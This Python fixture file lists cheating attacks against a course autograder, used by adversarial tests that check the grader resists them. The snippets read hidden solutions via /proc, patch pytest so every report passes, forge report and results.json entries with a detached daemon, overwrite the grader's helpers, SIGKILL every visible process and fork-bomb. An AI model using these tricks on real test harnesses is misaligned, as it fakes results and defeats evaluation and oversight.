"""Dishonest submissions: what a student who wants points without the work might try.

Each attack is a snippet put at the end of the exercise modules of a submission (the stubs,
so an honest grade is 0, or the solutions where the point is that nothing else may be lost).
Snippets are written from the student's side: they know where the grader's checkout is
(`{repo}`) and where results.json goes (`{results}`), which is the worst case.

The course checks (test_adversarial.py) grade each one from a throwaway copy of the checkout
and assert that it earns nothing it did not deserve, leaves the checkout and results.json as
they were, and that nothing it started outlives the grader.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str  # what the student tries, as in the "Grader v2" issue's table
    snippet: str  # Python put at the end of each attacked module; may use {repo} and {results}
    base: str = "stubs"  # "stubs" (nothing implemented) or "solutions" (everything right)
    modules: tuple[str, ...] = ("basics", "mlp", "conv", "models")


IMPORT_SOLUTIONS = Attack(
    "imports the solutions",
    """
try:
    from solutions.{module} import *  # noqa
except Exception:
    pass
import importlib.util, sys
for _path in ["{repo}/solutions/{module}.py"] + [p + "/../solutions/{module}.py" for p in sys.path if p]:
    try:
        _spec = importlib.util.spec_from_file_location("_stolen", _path)
        _stolen = importlib.util.module_from_spec(_spec)
        _spec.loader.exec_module(_stolen)
        globals().update({{k: v for k, v in vars(_stolen).items() if not k.startswith("__")}})
        break
    except Exception:
        pass
""",
)

FIND_THE_CHECKOUT = Attack(
    "finds the grader's checkout through /proc and execs solutions/*.py",
    """
import os
_found = []
for _pid in [str(os.getppid()), str(os.getpgrp())] + [p for p in os.listdir("/proc") if p.isdigit()]:
    for _where in ("cwd", "root"):
        try:
            _base = os.readlink(f"/proc/{{_pid}}/{{_where}}")
            _found.append(_base)
        except OSError:
            pass
    try:
        for _item in open(f"/proc/{{_pid}}/environ", "rb").read().split(b"\\0"):
            if _item.startswith((b"PWD=", b"PYTHONPATH=")):
                _found += _item.split(b"=", 1)[1].decode().split(":")
    except OSError:
        pass
for _base in _found + ["{repo}"]:
    for _candidate in (_base, os.path.dirname(_base), os.path.dirname(os.path.dirname(_base))):
        try:
            exec(open(os.path.join(_candidate, "solutions", "{module}.py")).read(), globals())
            break
        except Exception:
            pass
""",
)

PATCH_PYTEST_RUNTEST = Attack(
    "replaces pytest's Function.runtest with a no-op",
    """
try:
    import _pytest.python
    _pytest.python.Function.runtest = lambda self: None
except Exception:
    pass
""",
)

FORGE_REPORTS = Attack(
    "wraps TestReport.from_item_and_call so that every report passes",
    """
try:
    import _pytest.reports
    _original = _pytest.reports.TestReport.from_item_and_call.__func__
    def _always_passed(cls, item, call):
        report = _original(cls, item, call)
        report.outcome, report.longrepr = "passed", None
        return report
    _pytest.reports.TestReport.from_item_and_call = classmethod(_always_passed)
except Exception:
    pass
""",
)

APPEND_TO_THE_REPORT = Attack(
    "registers an atexit hook that appends passed lines to the grader's report files",
    """
import atexit, glob, json, os, tempfile
def _forge():
    for _report in glob.glob(os.path.join(tempfile.gettempdir(), "labs-grade-*", "report-*.jsonl")) + glob.glob("/tmp/labs-grade-*/report-*.jsonl"):
        try:
            lines = [json.loads(l) for l in open(_report)]
            with open(_report, "a") as f:
                for e in lines:
                    if e.get("event") == "start":
                        f.write(json.dumps({{"event": "result", "nodeid": e["nodeid"], "outcome": "passed", "message": "", "output": ""}}) + "\\n")
        except Exception:
            pass
atexit.register(_forge)
_forge()
""",
)

REWRITE_RESULTS_LATER = Attack(
    "double-forks a daemon that rewrites results.json after the grader exits",
    """
import json, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(40):
            time.sleep(0.25)
            try:
                with open("{results}", "w") as f:
                    json.dump({{"score": 99, "max_score": 99, "tests": []}}, f)
            except Exception:
                pass
        os._exit(0)
    os._exit(0)
""",
    modules=("basics",),
)

REWRITE_THE_HELPERS = Attack(
    "appends a no-op assert_close to the grader's tests/helpers.py",
    """
for _path in ("{repo}/tests/helpers.py",):
    try:
        with open(_path, "a") as f:
            f.write("\\n\\ndef assert_close(*args, **kwargs):\\n    pass\\n")
    except Exception:
        pass
""",
    modules=("basics",),
)

HANG_AND_IGNORE_ALARMS = Attack(
    "writes a fake result line, ignores SIGALRM and SIGTERM, and sleeps",
    """
import glob, json, signal, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for _report in glob.glob("/tmp/labs-grade-*/report-*.jsonl"):
    try:
        with open(_report, "a") as f:
            f.write(json.dumps({{"event": "result", "nodeid": "x", "outcome": "passed"}}) + "\\n")
    except Exception:
        pass
while True:
    time.sleep(1)
""",
    modules=("mlp",),
)

KILL_THE_PARENT = Attack(
    "kills its parent (and every process it can see) with SIGKILL",
    """
import os, signal
for _pid in [os.getppid(), os.getpgid(0)] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if _pid not in (os.getpid(), 0, 1):
        try:
            os.kill(_pid, signal.SIGKILL)
        except Exception:
            pass
""",
)

FORK_SLEEPERS = Attack(
    "forks 50 sleeping children",
    """
import os, time
for _ in range(50):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
    except OSError:
        break
""",
    modules=("basics",),
)

PRINT_A_GIGABYTE = Attack(
    "prints 1 GiB on every call of softmax",
    "",  # see print_a_gigabyte_edit: the printing goes inside softmax
    base="solutions",
    modules=(),
)

STRAY_NO_GRAD = Attack(
    "leaves torch.set_grad_enabled(False) at the top of basics.py",
    """
import torch
torch.set_grad_enabled(False)
""",
    base="solutions",
    modules=("basics",),
)

ATTACKS = [
    IMPORT_SOLUTIONS,
    FIND_THE_CHECKOUT,
    PATCH_PYTEST_RUNTEST,
    FORGE_REPORTS,
    APPEND_TO_THE_REPORT,
    REWRITE_RESULTS_LATER,
    REWRITE_THE_HELPERS,
    HANG_AND_IGNORE_ALARMS,
    KILL_THE_PARENT,
    FORK_SLEEPERS,
    PRINT_A_GIGABYTE,
    STRAY_NO_GRAD,
]

# In solutions/mlp.py's softmax: print a gigabyte before returning the right answer.
PRINT_A_GIGABYTE_EDIT = ("    exp = shifted.exp()\n    return exp / exp.sum(", '    print("x" * 2**30)\n    exp = shifted.exp()\n    return exp / exp.sum(')
